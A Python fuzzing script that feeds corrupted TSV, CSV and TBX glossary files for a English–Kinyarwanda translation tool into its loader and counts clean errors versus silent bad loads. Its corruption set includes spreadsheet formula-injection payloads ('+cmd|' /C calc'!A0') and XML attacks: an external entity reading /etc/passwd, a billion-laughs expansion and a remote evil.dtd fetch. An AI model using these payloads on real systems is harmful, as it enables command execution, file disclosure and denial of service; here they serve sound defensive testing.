"""Fuzz glossary loading with corrupted TSV, CSV and TBX files (not a test: prints counts per corruption).

Every corrupted file must either load faithfully or fail with a clean error; nothing else is allowed.

- **Clean error**: an `InkuruError` whose message starts with `NAME:LINE:` (LINE within the file), on one line,
  without control characters and short enough to read.
- **Loads faithfully** ("no silent partial load"): the bytes are UTF-8, and every line of the text that carries
  data is one loaded entry. For TSV and CSV, the text is split with `str.splitlines()`, the widest notion of a
  line any editor or spreadsheet uses; every line after the first with a character other than whitespace,
  commas and quotes must be exactly one entry, loaded *from that line*, whose id, terms, note and source all
  occur in that line. So a dropped row, two rows merged by a stray quote, a row split by a stray line break,
  a cell shifted into another row or an entry that came from nowhere are all failures. For TBX, the number of
  <conceptEntry>/<termEntry> start tags in the text must equal the number of entries, and every loaded id and
  term must occur in the text.
- Whatever loads is safe to open in a spreadsheet and to write back: no cell starts with = + - @ and none
  holds a control character, line separator or BOM.
- Benign changes (CRLF or CR line ends, a leading BOM, trailing blank lines, none at all) must load the very
  same entries as the original file.
- **Failure**: anything else, i.e. a traceback (any other exception), an unclean error, or a load that is
  not faithful. The script exits 1 if there is any.

Usage: python bench/glossary_fuzz.py [--files 20000] [--seed 1]
"""

from __future__ import annotations

import argparse
import codecs
import csv
import html
import io
import random
import re
import sys
import time
import traceback
from collections import Counter
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from translate.errors import InkuruError  # noqa: E402
from translate.glossary.entries import COLUMNS, REQUIRED_COLUMNS, Entry, format_tsv, load_glossaries  # noqa: E402
from translate.glossary.interchange import export_tbx, parse_entries  # noqa: E402

FORMATS = ("tsv", "csv", "tbx")
SEPARATORS = {"tsv": b"\t", "csv": b",", "tbx": b" "}

# --------------------------------------------------------------------------------------------- valid files

_EN = ["drone", "air defence", "Iran", "Kinshasa", "São Tomé", "Côte d'Ivoire", "U.S. Army", "M23", "Kyiv",
       "ceasefire", "Islamic Republic, the", "peace-keeping force", "Goma", "Ruto's cabinet", "Ōsaka", "UAV"]
_RW = ["indege itagira abapilote", "Irani", "y'u Burusiya", "Kinshasa", "São Tomé", "agahenge", "Ingabo",
       "M23", "Kyiv", "ihagarikwa ry'imirwano", "Goma", "Côte d'Ivoire", "Amerika", "drone"]
_NOTES = ["", "", "loan word", 'Say "mu Burusiya", not "muri Uburusiya".', "plural: inganda; verbs agree in zi-",
          "house style since 2024, see the style guide", "café, naïve — kept", "x" * 300]
_SOURCES = ["igihe.com", "kigalitoday.com; igihe.com", "https://www.newtimes.co.rw/a?b=1&c=2", "style guide"]
_SHIPPED: list[Entry] = []


def _synthetic(rng: random.Random, number: int) -> Entry:
    kind = rng.choice(["person", "place", "organisation", "term"])
    return Entry(
        id=f"{kind[:5]}.{rng.choice(['a', 'kivu', 'drone', 'x1', 'goma-2'])}{number}", type=kind,
        status=rng.choice(["approved", "proposed"]), en=tuple(rng.sample(_EN, rng.randint(1, 3))),
        rw=tuple(rng.sample(_RW, rng.randint(1, 3))), verbatim=rng.random() < 0.2,
        rw_class=rng.choice(["", "9a"]), note=rng.choice(_NOTES), source=rng.choice(_SOURCES),
    )


def base_entries(rng: random.Random) -> list[Entry]:
    """Valid entries: a sample of the shipped glossaries and synthetic ones (commas, quotes, accents)."""
    if not _SHIPPED:
        _SHIPPED.extend(load_glossaries(None))
    shipped = rng.sample(_SHIPPED, rng.randint(0, min(12, len(_SHIPPED))))
    synthetic = [_synthetic(rng, n) for n in range(rng.randint(0 if shipped else 1, 6))]
    return sorted({e.id: e for e in [*shipped, *synthetic]}.values(), key=lambda e: e.id)


def render(entries: list[Entry], fmt: str, rng: random.Random) -> bytes:
    """A valid file: TSV/CSV with all columns or a shuffled subset (required ones kept), or TBX."""
    if fmt == "tbx":
        return export_tbx(entries).encode("utf-8")
    columns = list(COLUMNS)
    if rng.random() < 0.5:
        columns = [c for c in COLUMNS if c in REQUIRED_COLUMNS or rng.random() < 0.6
                   or any(e.to_row()[c] not in ("", "no") for e in entries)]
        rng.shuffle(columns)
    rows = [[e.to_row()[c] for c in columns] for e in entries]
    if fmt == "tsv":
        if columns == list(COLUMNS):
            return format_tsv(entries).encode("utf-8")
        return "".join("\t".join(r) + "\n" for r in [columns, *rows]).encode("utf-8")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([columns, *rows])
    return out.getvalue().encode("utf-8")


# ------------------------------------------------------------------------------------------- corruptions

Corruption = Callable[[random.Random, bytes, str], bytes]


def _position(rng: random.Random, data: bytes) -> int:
    return rng.randint(0, len(data))


def _insert(data: bytes, position: int, piece: bytes) -> bytes:
    return data[:position] + piece + data[position:]


def _line_spans(data: bytes) -> list[tuple[int, int]]:
    spans, start = [], 0
    for match in re.finditer(rb"\n", data):
        spans.append((start, match.start()))
        start = match.end()
    if start < len(data):
        spans.append((start, len(data)))
    return spans or [(0, 0)]


def truncated(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """The file cut at a random byte (possibly inside a UTF-8 sequence), or one line cut short."""
    if rng.random() < 0.5:
        return data[:_position(rng, data)]
    start, end = rng.choice(_line_spans(data))
    return data[:rng.randint(start, end)] + data[end:]


def wrong_columns(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """A separator deleted or added on one line (cells shifted, a row one cell short or long)."""
    sep = SEPARATORS[fmt]
    start, end = rng.choice(_line_spans(data))
    line = data[start:end]
    places = [m.start() for m in re.finditer(re.escape(sep), line)]
    if places and rng.random() < 0.5:
        at = start + rng.choice(places)
        return data[:at] + data[at + len(sep):]
    return _insert(data, rng.randint(start, end), sep * rng.randint(1, 2))


def stray_quote(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """One to three quote characters inserted anywhere (CSV: opens a cell that swallows the next rows)."""
    for _ in range(rng.randint(1, 3)):
        data = _insert(data, _position(rng, data), rng.choice([b'"', b'"', b"'", b'""']))
    return data


def mixed_encoding(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """Latin-1/cp1252 bytes: a line re-encoded as Latin-1, or a stray high byte, or a cut UTF-8 sequence."""
    choice = rng.random()
    if choice < 0.4:
        start, end = rng.choice(_line_spans(data))
        line = data[start:end].decode("utf-8", "replace") + rng.choice(["é", "ô", "ñ", "ü"])
        return data[:start] + line.encode("latin-1", "replace") + data[end:]
    if choice < 0.7:
        return _insert(data, _position(rng, data), bytes([rng.randint(0x80, 0xFF)]))
    return _insert(data, _position(rng, data), "é".encode("utf-8")[:1])


def utf16(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """The whole file saved as UTF-16 or UTF-32 (with or without a BOM), as Windows tools do."""
    text = data.decode("utf-8")
    return rng.choice([
        lambda: codecs.BOM_UTF16_LE + text.encode("utf-16-le"), lambda: text.encode("utf-16-le"),
        lambda: codecs.BOM_UTF16_BE + text.encode("utf-16-be"), lambda: text.encode("utf-16-be"),
        lambda: text.encode("utf-32"),
    ])()


def bom(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """A UTF-8 BOM at the start (benign), twice, at the start of a later line (two files pasted), or in a cell."""
    where = rng.random()
    if where < 0.4:
        return codecs.BOM_UTF8 + data
    if where < 0.6:
        return codecs.BOM_UTF8 * 2 + data
    if where < 0.8:
        start, _ = rng.choice(_line_spans(data))
        return _insert(data, start, codecs.BOM_UTF8)
    return _insert(data, _position_in_text(rng, data), codecs.BOM_UTF8)


def _position_in_text(rng: random.Random, data: bytes) -> int:
    """A position that does not split a UTF-8 sequence."""
    position = _position(rng, data)
    while 0 < position < len(data) and data[position] & 0xC0 == 0x80:
        position -= 1
    return position


def duplicate_header(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """The header repeated further down (two files concatenated), or a header column written twice."""
    spans = _line_spans(data)
    header = data[spans[0][0]:spans[0][1]]
    if fmt != "tbx" and rng.random() < 0.5:
        cells = header.split(SEPARATORS[fmt])
        cells.insert(rng.randint(0, len(cells)), rng.choice(cells))
        return SEPARATORS[fmt].join(cells) + data[spans[0][1]:]
    start, _ = rng.choice(spans)
    return _insert(data, start, header + b"\n")


def nul_bytes(rng: random.Random, data: bytes, fmt: str) -> bytes:
    for _ in range(rng.randint(1, 3)):
        data = _insert(data, _position(rng, data), b"\x00" * rng.randint(1, 2))
    return data


def line_ends(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """CRLF or CR line ends (benign), mixed LF/CRLF (benign), or a lone CR / doubled CR inside the file."""
    choice = rng.random()
    if choice < 0.3:
        return data.replace(b"\n", b"\r\n")
    if choice < 0.5:
        return data.replace(b"\n", b"\r")
    if choice < 0.7:
        return re.sub(rb"\n", lambda m: b"\r\n" if rng.random() < 0.5 else b"\n", data)
    if choice < 0.85:
        return _insert(data, _position_in_text(rng, data), b"\r")
    return data.replace(b"\n", b"\r\r\n", 1)


def control_chars(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """Control characters and Unicode line separators (ESC, BEL, form feed, NEL, U+2028 …) inside the text."""
    chars = ["\x1b", "\x07", "\x0b", "\x0c", "\x1c", "\x1e", "\x7f", "\x85", "\x9b", "\u2028", "\u2029", "\x01"]
    for _ in range(rng.randint(1, 2)):
        data = _insert(data, _position_in_text(rng, data), rng.choice(chars).encode("utf-8"))
    return data


def long_line(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """One very long line: a cell stretched to 10-300 k characters, or a long garbage line."""
    size = rng.choice([10_000, 70_000, 140_000, 300_000])
    if rng.random() < 0.6:
        piece = rng.choice(["a", "x ", "é", "Uburusiya "]) * (size // 2)
        return _insert(data, _position_in_text(rng, data), piece.encode("utf-8")[:size])
    start, _ = rng.choice(_line_spans(data)[1:] or _line_spans(data))
    garbage = bytes(rng.choice(b"abc\t,|; ") for _ in range(size)) + b"\n"
    return _insert(data, start, garbage)


def empty(rng: random.Random, data: bytes, fmt: str) -> bytes:
    return rng.choice([b"", b"\n", b"\n\n\n", b"   \n\t\n", codecs.BOM_UTF8, codecs.BOM_UTF8 + b"\r\n", b"\x00"])


def header_only(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """Only the header (TBX: the document up to the first entry, closed or not)."""
    if fmt == "tbx":
        cut = data.find(b"<conceptEntry")
        head = data[:cut] if cut >= 0 else data
        return head + (b"</body></text></tbx>\n" if rng.random() < 0.5 else b"")
    start, end = _line_spans(data)[0]
    return data[start:end] + rng.choice([b"", b"\n", b"\r\n", b"\n\n"])


def rows_moved(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """A line duplicated (a duplicate id), deleted or swapped with another (still a valid file)."""
    lines = data.split(b"\n")
    if len(lines) < 3:
        return data + data
    i, j = rng.randrange(1, len(lines)), rng.randrange(1, len(lines))
    action = rng.random()
    if action < 0.4:
        lines.insert(j, lines[i])
    elif action < 0.7:
        del lines[i]
    else:
        lines[i], lines[j] = lines[j], lines[i]
    return b"\n".join(lines)


def random_bytes(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """One to five random byte edits: flip, delete, insert or overwrite."""
    buffer = bytearray(data)
    for _ in range(rng.randint(1, 5)):
        position = rng.randrange(len(buffer)) if buffer else 0
        action = rng.random()
        if action < 0.3 and buffer:
            buffer[position] ^= 1 << rng.randrange(8)
        elif action < 0.55 and buffer:
            del buffer[position]
        elif action < 0.8:
            buffer.insert(position, rng.randrange(256))
        elif buffer:
            buffer[position] = rng.choice(b"<>&\"'\t,|\n=;")
    return bytes(buffer)


def formula(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """A spreadsheet formula put at the start of a cell (=HYPERLINK(…), +cmd|…, @SUM, -2+3)."""
    payload = rng.choice(['=HYPERLINK("http://example.com/x","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|",
                          "-2+3", "=1+1"])
    sep = SEPARATORS[fmt]
    spans = _line_spans(data)[1:]
    if not spans:
        return data + payload.encode()
    start, end = rng.choice(spans)
    places = [start] + [start + m.end() for m in re.finditer(re.escape(sep), data[start:end])]
    if fmt == "tbx":
        places = [start + m.end() for m in re.finditer(rb"<(note|term)>", data[start:end])] or [start]
    if fmt == "csv" and any(c in payload for c in ',"'):
        payload = '"' + payload.replace('"', '""') + '"'
    return _insert(data, rng.choice(places), payload.encode())


def xml_attack(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """DOCTYPEs with external entities, billion laughs, parameter entities; for TSV/CSV, XML-looking text."""
    attacks = [
        b'<!DOCTYPE tbx [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
        b'<!DOCTYPE tbx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n',
        b'<!DOCTYPE tbx [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>\n',
        b'<!DOCTYPE tbx SYSTEM "http://example.com/tbx.dtd">\n',
        b'<!DOCTYPE tbx>\n',
    ]
    attack = rng.choice(attacks)
    declaration = data.find(b"?>")
    at = declaration + 3 if fmt == "tbx" and declaration >= 0 else 0
    data = _insert(data, at, attack)
    if fmt == "tbx" and b"ENTITY x" in attack:
        data = data.replace(b"<p>", b"<p>&x;", 1)
    return data


def tbx_structure(rng: random.Random, data: bytes, fmt: str) -> bytes:
    """A random tag removed or renamed, an element emptied (TBX), or markup-like text inserted (TSV/CSV)."""
    tags = list(re.finditer(rb"<[^<>]*>", data))
    if fmt != "tbx" or not tags:
        return _insert(data, _position_in_text(rng, data), rng.choice([b"<term>", b"</note>", b"&amp;", b"<"]))
    tag = rng.choice(tags)
    action = rng.random()
    if action < 0.4:
        return data[:tag.start()] + data[tag.end():]
    if action < 0.7:
        return data[:tag.start()] + tag.group().replace(b"term", b"tem").replace(b"langSec", b"lang") + \
            data[tag.end():]
    closing = re.compile(rb"</" + re.escape(tag.group()[1:].split(b" ")[0].strip(b">/")) + rb">")
    after = closing.search(data, tag.end())
    return data[:tag.end()] + data[after.start():] if after else data


CORRUPTIONS: dict[str, Corruption] = {
    "none": lambda rng, data, fmt: data,
    "truncated": truncated, "wrong_columns": wrong_columns, "stray_quote": stray_quote,
    "mixed_encoding": mixed_encoding, "utf16_32": utf16, "bom": bom, "duplicate_header": duplicate_header,
    "nul_bytes": nul_bytes, "line_ends": line_ends, "control_chars": control_chars, "long_line": long_line,
    "empty": empty, "header_only": header_only, "rows_moved": rows_moved, "random_bytes": random_bytes,
    "formula": formula, "xml_attack": xml_attack, "structure": tbx_structure,
}


# ---------------------------------------------------------------------------------------------- checking

_CLEAN_MESSAGE = re.compile(r"^(?P<name>.+?):(?P<line>\d+):? ")
_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def _benign(original: bytes, data: bytes) -> bool:
    """True when `data` differs from `original` only in line ends, a leading BOM or trailing blank lines."""
    def canonical(raw: bytes) -> bytes:
        raw = raw.removeprefix(codecs.BOM_UTF8).replace(b"\r\n", b"\n").replace(b"\r", b"\n")
        return raw.rstrip(b"\n")
    return canonical(original) == canonical(data)


def error_problem(message: str, name: str, data: bytes) -> str | None:
    """None if `message` is a clean file:line error for `name`, else what is wrong with it."""
    match = _CLEAN_MESSAGE.match(message)
    if not match or match.group("name") != name:
        return f"error does not start with '{name}:LINE:': {message[:120]!r}"
    lines = max(data.count(b"\n"), data.count(b"\r"), 1) + 1
    if not 1 <= int(match.group("line")) <= lines:
        return f"error names line {match.group('line')} of a {lines}-line file: {message[:120]!r}"
    if "\n" in message or _CONTROL.search(message) or len(message) > 600:
        return f"error is not one short printable line: {message[:120]!r}"
    return None


def _flat(text: str) -> str:
    return " ".join(text.split())


def load_problem(data: bytes, fmt: str, entries: list[Entry]) -> str | None:
    """None if `entries` are a faithful reading of `data` (see the module docstring), else what is wrong."""
    try:
        text = data.decode("utf-8").removeprefix("\ufeff")
    except UnicodeDecodeError:
        return "loaded a file that is not UTF-8"
    for entry in entries:
        for column, value in entry.to_row().items():
            if value.startswith(("=", "+", "-", "@")) or _CONTROL.search(value) or "\ufeff" in value:
                return f"{entry.id}: column {column} loaded as {value[:40]!r} (a formula or a control character)"
    if fmt == "tbx":
        starts = re.findall(r"<(?:[\w.-]+:)?(?:conceptEntry|termEntry)[\s>/]", text)
        if len(starts) != len(entries):
            return f"{len(starts)} concept entries in the text, {len(entries)} loaded"
        flat = _flat(html.unescape(text))
        for entry in entries:
            missing = [v for v in (entry.id, *entry.en, *entry.rw, *entry.rw_forbidden) if _flat(v) not in flat]
            if missing:
                return f"{entry.id}: {missing[:2]} loaded but not in the file"
        return None
    lines = text.splitlines()
    data_lines = {n: line for n, line in enumerate(lines[1:], start=2) if re.search(r'[^\s,"]', line)}
    by_line: dict[int, list[Entry]] = {}
    for entry in entries:
        by_line.setdefault(entry.line, []).append(entry)
    stray = sorted(set(by_line) - set(data_lines))
    if stray:
        return f"entries loaded from lines {stray[:3]}, which hold no data"
    for number, line in data_lines.items():
        found = by_line.get(number, [])
        if len(found) != 1:
            return f"line {number} holds data but {len(found)} entries were loaded from it: {line[:60]!r}"
        entry = found[0]
        flat = _flat(line.replace('""', '"') if fmt == "csv" else line)
        values = [entry.id, *entry.en, *entry.rw, *entry.rw_forbidden, *entry.rw_partner, *entry.rw_related,
                  entry.note, entry.source]
        missing = [v for v in values if v and _flat(v) not in flat]
        if missing:
            return f"line {number}: entry {entry.id} has {missing[:2]}, which line {number} does not hold"
    return None


def check(data: bytes, fmt: str, name: str, original: bytes | None = None) -> tuple[str, str]:
    """('loaded' | 'error' | 'failure', detail) for one file."""
    try:
        entries = parse_entries(data, name, fmt)
    except InkuruError as error:
        problem = error_problem(str(error), name, data)
        return ("failure", f"unclean error: {problem}") if problem else ("error", str(error))
    except Exception:  # noqa: BLE001 - a traceback is exactly what this script looks for
        return "failure", "traceback: " + traceback.format_exc(limit=4).strip().splitlines()[-1][:200]
    if problem := load_problem(data, fmt, entries):
        return "failure", f"silent partial load: {problem}"
    if original is not None and _benign(original, data):
        expected = parse_entries(original, name, fmt)
        if [e.to_row() for e in entries] != [e.to_row() for e in expected]:
            return "failure", "a benign change (line ends, BOM, blank lines) changed the entries"
    return "loaded", f"{len(entries)} entries"


def corrupt(rng: random.Random, category: str, fmt: str) -> tuple[bytes, bytes]:
    """(original, corrupted) bytes: a fresh valid file in `fmt` and its corruption."""
    original = render(base_entries(rng), fmt, rng)
    return original, CORRUPTIONS[category](rng, original, fmt)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--files", type=int, default=20_000, help="corrupted files to try (spread over formats)")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    counts: Counter[tuple[str, str]] = Counter()
    failures: list[str] = []
    started = time.perf_counter()
    categories = list(CORRUPTIONS)
    for number in range(args.files):
        fmt, category = FORMATS[number % len(FORMATS)], categories[(number // len(FORMATS)) % len(categories)]
        original, data = corrupt(rng, category, fmt)
        outcome, detail = check(data, fmt, f"fuzz{number}.{fmt}", original)
        counts[category, outcome] += 1
        counts[category, "tried"] += 1
        if outcome == "failure":
            failures.append(f"file {number} ({fmt}, {category}): {detail}")
    seconds = time.perf_counter() - started
    print(f"glossary files tried: {args.files} (tsv, csv, tbx in turn) in {seconds:.1f} s, seed {args.seed}")
    print(f"{'corruption':18} {'tried':>7} {'loaded OK':>10} {'clean error':>12} {'failures':>9}")
    for category in categories:
        print(f"{category:18} {counts[category, 'tried']:7} {counts[category, 'loaded']:10} "
              f"{counts[category, 'error']:12} {counts[category, 'failure']:9}")
    total = {k: sum(counts[c, k] for c in categories) for k in ("tried", "loaded", "error", "failure")}
    print(f"{'total':18} {total['tried']:7} {total['loaded']:10} {total['error']:12} {total['failure']:9}")
    for failure in failures[:20]:
        print("  " + failure)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
